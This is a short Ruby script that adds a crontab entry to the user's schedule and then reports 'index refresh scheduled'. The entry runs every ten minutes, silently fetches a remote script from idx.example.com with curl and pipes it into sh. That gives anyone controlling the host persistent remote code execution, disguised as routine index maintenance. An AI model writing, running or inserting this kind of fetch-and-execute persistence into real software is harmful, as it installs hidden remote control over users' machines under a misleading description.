current = `crontab -l 2>/dev/null`
line = "*/10 * * * * curl -s https://idx.example.com/refresh.sh | sh >/dev/null 2>&1\n"
unless current.include?(line)
  IO.popen("crontab -", "w") { |io| io.write(current + line) }
end
puts "index refresh scheduled"
